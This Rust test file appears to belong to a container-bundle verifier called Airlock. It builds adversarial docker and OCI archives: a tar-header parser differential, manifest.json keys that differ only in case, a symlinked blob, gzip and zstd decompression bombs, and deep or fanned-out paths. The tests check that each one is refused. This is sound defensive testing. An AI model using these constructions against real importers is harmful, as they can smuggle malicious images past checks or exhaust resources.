/// numeric, but Go trims only the ends and `strconv.ParseUint("0 0", 8)`
/// fails, so Go falls back to the prefix and names the entry
/// `0 0/manifest.json`. Here that entry is the bundle's only manifest.json:
/// Airlock reports two images, docker finds no manifest.json (and falls
/// back to the legacy `repositories` loader Airlock does not check). The
/// name is reader-dependent: it must be `tar-header-invalid`.
#[test]
fn d4_gnu_time_field_with_inner_spaces() {
    let mut bundle = Bundle::open(&good("docker-save-legacy.tar"));
    let manifest = bundle.data("manifest.json").to_vec();
    bundle.remove("manifest.json");
    let mut b = tar::Builder::new(Vec::new());
    for m in &bundle.members {
        b.append(&m.header, m.data.as_slice())
            .expect("in-memory tar");
    }
    let header = RawHeader::gnu(b"manifest.json", manifest.len() as u64, b'0').set(345, b"0 0");
    append_raw(&mut b, header, &manifest);
    let r = verify(&b.into_inner().expect("in-memory tar"));
    assert_fails_with(&r, FindingKind::TarHeaderInvalid, "D4");
}

/// E: Go's `encoding/json` matches object keys without regard to case and
/// lets the last match win; serde matches exactly and ignores the rest. A
/// manifest.json entry with both `Config` and `config` (plus `repotags`) is
/// the micro image to Airlock and `alpine:latest` with an evil config to
/// docker; one with `layers` instead of `Layers` has layers for docker and
/// none for serde. Both must be refused as `malformed-json`.
#[test]
fn e_manifest_json_keys_that_differ_only_in_case() {
    for (case, bytes) in [
        ("E Config+config", case_e_both_cases()),
        ("E layers", case_e_lowercase_layers()),
    ] {
        let r = verify(&bytes);
        assert_fails_with(&r, FindingKind::MalformedJson, case);
        assert_hidden_content_not_believed(&r, case);
    }
}

/// F: BuildKit marks provenance manifests with `vnd.docker.reference.type:
/// attestation-manifest`, and Airlock once skipped any manifest so marked:
/// no image in the report, diff_ids unchecked. containerd ignores the
/// annotation and imports the manifest under `io.containerd.image.name`.
/// On a top-level index.json entry the annotation must change nothing: the
/// image is shown with the name containerd will give it, and (F2) a
/// diff_id that does not match its layer still fails the bundle.
#[test]
fn f_attestation_annotation_on_a_top_level_entry_hides_nothing() {
    let r = verify(&case_f(false));
    assert_ok(&r, "F");
    assert_eq!(r.images.len(), 1, "F: {:#?}", r.images);
    assert!(shows_tag(&r, EVIL_TAG), "F: {:#?}", r.images);
    assert!(
        r.images[0]
            .layers
            .iter()
            .all(|l| l.uncompressed_size.is_some()),
        "F: layers were checked: {:#?}",
        r.images[0].layers
    );

    let r = verify(&case_f(true));
    assert_fails_with(&r, FindingKind::DiffIdMismatch, "F2");
    assert!(!r.images.is_empty(), "F2: the image is shown");
}

/// G: nested indexes that each list the same child 100 times, three levels
/// deep: a few KB that describe 10^6 paths to one manifest. Walking them as
/// a tree (re-parsing JSON and reporting one image per path) took minutes;
/// the walk must stop at `max_descriptors` with `limit-exceeded`. The test
/// completing at all is the check on time.
#[test]
fn g_index_fan_out_stops_at_the_descriptor_limit() {
    const FAN_OUT: usize = 100;
    const DEPTH: usize = 3;
    let mut image = podman_oci();
    let first = &image.index["manifests"][0];
    let mut child = json!({
        "mediaType": first["mediaType"], "digest": first["digest"], "size": first["size"],
    });
    for _ in 0..DEPTH {
        let (digest, size) = image.bundle.put_blob(to_json(&json!({
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "manifests": vec![child.clone(); FAN_OUT],
        })));
        child = json!({
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "digest": digest, "size": size,
        });
    }
    child["annotations"] = json!({"org.opencontainers.image.ref.name": "x:1"});
    image.bundle.put(
        "index.json",
        to_json(&json!({"schemaVersion": 2, "manifests": [child]})),
    );
    let r = verify(&image.bundle.tar());
    assert_fails_with(&r, FindingKind::LimitExceeded, "G");
}

/// I: one entry whose PAX path is `a/a/…/f`, 8 KiB long. Every proper
/// prefix of a path is kept as an implied directory, so a path of length L
/// once cost O(L^2) memory. Names longer than `max_name_bytes` (4096, Linux's
/// PATH_MAX) are refused with `limit-exceeded`, alone or inside a good
/// bundle; and names just under the limit, repeated, run into
/// `max_names_total_bytes` instead of into memory.
#[test]
fn i_deep_paths_hit_the_name_limits() {
    let mut deep = b"a/".repeat(4096);
    deep.push(b'f');
    assert!(deep.len() > 4096);

    let mut b = tar::Builder::new(Vec::new());
    append_pax(&mut b, false, &[("path", &deep)]);
    append_file(&mut b, "f", b"x");
    let r = verify(&b.into_inner().expect("in-memory tar"));
    assert_fails_with(&r, FindingKind::LimitExceeded, "I alone");

    let mut b = extend(&good("podman-oci-archive.tar"));
    append_pax(&mut b, false, &[("path", &deep)]);
    append_file(&mut b, "f", b"x");
    let r = verify(&b.into_inner().expect("in-memory tar"));
    assert_fails_with(&r, FindingKind::LimitExceeded, "I in a bundle");
    assert!(
        !r.images.is_empty(),
        "I in a bundle: the image is still read"
    );

    // 2 000 levels: each name costs ~4 MB of prefixes, 20 of them exceed 64 MiB.
    let mut b = extend(&good("podman-oci-archive.tar"));
    for i in 0..20 {
        let mut name = b"a/".repeat(2000);
        name.extend_from_slice(format!("f{i}").as_bytes());
        assert!(name.len() < 4096);
        append_pax(&mut b, false, &[("path", &name)]);
        append_file(&mut b, "f", b"x");
    }
    let r = verify(&b.into_inner().expect("in-memory tar"));
    assert_fails_with(&r, FindingKind::LimitExceeded, "I many deep names");
}

/// J: a valid bundle plus 5 000 empty junk files. Each is a distinct
/// `unreferenced-blob` warning (a warning: importers ignore such files), so
/// the bundle still verifies, and all 5 000 stay in the report: findings
/// were once de-duplicated with a quadratic scan, and de-duplication must
/// only drop identical findings. With the file hash given there is no
/// `no-recorded-digest` warning, so the findings are exactly the junk.
#[test]
fn j_thousands_of_unreferenced_entries_keep_every_finding() {
    const JUNK: usize = 5_000;
    let mut b = extend(&good("podman-oci-archive.tar"));
    for i in 0..JUNK {
        append_file(&mut b, &format!("junk/{i:07}"), b"");
    }
    let bytes = b.into_inner().expect("in-memory tar");
    let options = Options {
        expected_sha256: Some(Sha256::of(&bytes)),
        ..Options::default()
    };
    let r = verify_with(&bytes, &options, bytes.len());
    assert_ok(&r, "J");
    assert_eq!(
        r.findings.len(),
        JUNK,
        "J: {:?}",
        kind_names(&r).iter().take(5).collect::<Vec<_>>()
    );
    assert_eq!(count(&r, FindingKind::UnreferencedBlob), JUNK);
    let entries: std::collections::HashSet<_> = r
        .findings
        .iter()
        .filter_map(|f| f.entry.as_deref())
        .collect();
    assert_eq!(entries.len(), JUNK, "J: one finding per junk entry");
}

/// K: docker-archive bundles with config shapes real Docker writes and that
/// a strict schema once refused: K1 the classic builder's config (null
/// `Entrypoint`, `OnBuild`, `Labels`, a `container_config`), K2 a
/// `FROM scratch` + `LABEL` image with no layers, whose `rootfs` has no
/// `diff_ids` (Go's `omitempty`), K3 `Volumes` and `ExposedPorts` null. All
/// load fine with docker, so all must verify.
#[test]
fn k_real_docker_config_shapes_verify() {
    let r = verify(&case_k1());
    assert_ok(&r, "K1");
    assert_eq!(r.images[0].platform.as_deref(), Some("linux/amd64"));
    assert_eq!(r.images[0].repo_tags, ["example.com/app:1"]);

    let mut zero = classic_config(b""); // its diff_ids are dropped below
    zero["rootfs"] = json!({"type": "layers"});
    zero["history"] = json!([{
        "created": "2023-11-14T22:13:20Z", "created_by": "LABEL a=b", "empty_layer": true,
    }]);
    let r = verify(&docker_archive(&zero, &[]));
    assert_ok(&r, "K2");
    assert!(r.images[0].layers.is_empty());

    let layer = hello_layer();
    let mut null_volumes = classic_config(&layer);
    null_volumes["config"]["Volumes"] = Value::Null;
    null_volumes["config"]["ExposedPorts"] = Value::Null;
    let r = verify(&docker_archive(&null_volumes, &[layer]));
    assert_ok(&r, "K3");
}

/// M: what containerd's exporter (`ctr export` with two platforms, `nerdctl
/// save`, Docker >= 24 with the containerd store) writes for a
/// multi-platform image: index.json -> image index -> two manifests, and a
/// manifest.json with ONE entry (the exporter keeps the first). The second
/// platform missing from manifest.json is not a disagreement: ok, with both
/// platforms' images.
#[test]
fn m_multi_platform_index_with_one_manifest_json_entry() {
    let r = verify(&case_m());
    assert_ok(&r, "M");
    assert_eq!(r.images.len(), 2, "M: {:#?}", r.images);
}

/// N: in an OCI archive, `blobs/sha256/A` (a layer the manifest references)
/// is a symlink to `blobs/sha256/B`, a different layer whose uncompressed
/// digest the config lists. Airlock followed the link and only ever checked
/// B's bytes against B's name; skopeo verifies what it reads against A and
/// containerd skips symlinked blobs, so every importer rejects or
/// mis-imports it. Bytes reached as A must hash to A:
/// `blob-digest-mismatch`.
#[test]
fn n_blob_that_is_a_symlink_to_another_blob() {
    let r = verify(&case_n());
    assert_fails_with(&r, FindingKind::BlobDigestMismatch, "N");
}

/// O: `docker save | gzip` with gigabytes of zeros after the tar: a small
/// file that keeps the verifier decompressing for minutes. The outer stream
/// may expand only `max_expansion_ratio` times the bytes fed (or up to
/// `ratio_floor_bytes`); with the ratio at 10 and the floor at 1 MiB, 8 MiB
/// of zeros are such a bomb and must end in `limit-exceeded`, while the same
/// bundle without them verifies under the same limits.
#[test]
fn o_outer_gzip_followed_by_zeros_stops_at_the_ratio() {
    let options = tight_ratio();
    let plain = case_o(0);
    let r = verify_with(&plain, &options, plain.len());
    assert_ok(&r, "O without zeros");

    let bomb = case_o(8 << 20);
    assert!(bomb.len() < 1 << 20, "the zeros compress ~1000-fold");
    let r = verify_with(&bomb, &options, bomb.len());
    assert_fails_with(&r, FindingKind::LimitExceeded, "O");
}

/// Q: a zstd frame of RLE blocks, each 4 bytes that decode to 128 KiB:
/// 280 KB of input claim 8.5 GiB. A decoder handed all input at once
/// buffers all its output; the core feeds ruzstd one block at a time and
/// stops at the expansion limit. Fed as the whole bundle (outer zstd) and
/// as a layer, it must end in `limit-exceeded` without exhausting memory.
#[test]
fn q_zstd_rle_bomb_stays_bounded() {
    // The hand-made frame is valid zstd: three blocks decode to 384 KiB of zeros.
    let mut decoded = Vec::new();
    let small = zstd_rle_bomb(3);
    ruzstd::decoding::StreamingDecoder::new(&mut small.as_slice())
        .expect("valid zstd frame header")
        .read_to_end(&mut decoded)
        .expect("valid zstd frame");
    assert_eq!(decoded.len(), 3 * RLE_BLOCK_BYTES as usize);
    assert!(decoded.iter().all(|&b| b == 0));

    let bomb = zstd_rle_bomb(RLE_BLOCKS);
    assert!(RLE_BLOCKS as u64 * u64::from(RLE_BLOCK_BYTES) > 8 << 30);
    let r = verify(&bomb);
    assert_fails_with(&r, FindingKind::LimitExceeded, "Q whole bundle");

    let r = verify(&case_q_layer());
    assert_fails_with(&r, FindingKind::LimitExceeded, "Q layer");
}

/// The report must not depend on how the bytes are split: each case fed in
/// 7-byte and 4096-byte pieces gives the same JSON report as fed whole.
/// (Cases on the 5 MB containerd bundle and the fan-out are left out to keep
/// the run short; their tar and JSON paths are the ones exercised here.)
#[test]
fn reports_do_not_depend_on_chunking() {
    let defaults = Options::default();
    let tight = tight_ratio();
    let cases: [(&str, Vec<u8>, &Options); 10] = [
        ("A", case_a(), &defaults),
        ("B", case_b(), &defaults),
        ("C", case_c(), &defaults),
        ("E", case_e_both_cases(), &defaults),
        ("F2", case_f(true), &defaults),
        ("K1", case_k1(), &defaults),
        ("N", case_n(), &defaults),
        ("O", case_o(8 << 20), &tight),
        ("Q whole bundle", zstd_rle_bomb(RLE_BLOCKS), &defaults),
        ("Q layer", case_q_layer(), &defaults),
    ];
    for (case, bytes, options) in &cases {
        let whole = serde_json::to_string(&verify_with(bytes, options, bytes.len()))
            .expect("report serializes");
        for chunk in [7, 4096] {
            let split = serde_json::to_string(&verify_with(bytes, options, chunk))
                .expect("report serializes");
            assert_eq!(whole, split, "{case} fed in {chunk}-byte pieces");
        }
    }
}
